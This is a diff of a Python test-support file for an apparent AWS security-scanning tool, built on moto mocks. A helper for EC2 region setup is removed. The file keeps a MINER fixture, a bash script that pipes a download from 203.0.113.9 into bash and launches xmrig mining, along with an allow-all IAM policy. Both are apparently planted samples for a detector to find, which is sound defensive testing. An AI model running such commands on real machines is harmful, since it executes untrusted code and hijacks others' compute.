@@ -13,19 +13,16 @@ from pathlib import Path
 from typing import Any
 
 from moto.awslambda.models import lambda_backends
-from moto.ec2.models import ec2_backends
 from moto.iam.models import iam_backends
 from moto.kms.models import kms_backends
 
 from tenantry.places import SHIPPED
 from tests.support.aws_access_gaps import Root
-from tests.support.aws_gaps import Reply, record
-from tests.support.aws_stand import REGIONS, Account
+from tests.support.aws_gaps import record
+from tests.support.aws_stand import ELSEWHERE, REGIONS, Account
 
 STRANGER, VENDOR, HUB, LOGS = "999988887777", "444455556666", "222233334444", "333344445555"
-ELSEWHERE = "ap-southeast-1"
 ALL = {"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Action": "*", "Resource": "*"}]}
-_VENDORS = "Auto-created snapshot for AMI"
 MINER = "#!/bin/bash\ncurl -s http://203.0.113.9/x.sh | bash\n./xmrig -o stratum+tcp://203.0.113.9:3333\n"
 ORDINARY = "#!/bin/bash\napt-get update && apt-get install -y nginx\ncurl -fsSL https://get.docker.com | sh\n"
 
@@ -37,19 +34,6 @@ class Planted:
     guilty: set[str] = field(default_factory=set)
     innocent: set[str] = field(default_factory=set)
     """Ids of entities."""
-
-
-def enabled(account: Account) -> None:
-    """The account has three regions enabled, where moto's have all; and owns none of the snapshots behind the vendor's images, which moto gives
-    to everybody."""
-    for region in (*REGIONS, ELSEWHERE):
-        held = ec2_backends[account.id][region].snapshots
-        for id in [id for id, one in held.items() if str(one.description).startswith(_VENDORS)]:
-            del held[id]
-    items = "".join(f"<item><regionName>{name}</regionName></item>" for name in (*REGIONS, ELSEWHERE))
-    space = 'xmlns="http://ec2.amazonaws.com/doc/2016-11-15/"'
-    text = f"<DescribeRegionsResponse {space}><regionInfo>{items}</regionInfo></DescribeRegionsResponse>"
-    account.stand.fault("ec2", "DescribeRegions", Reply(200, text.encode()), times=10**6)
 
 
 def letting_in(who: str, **condition: Any) -> str:
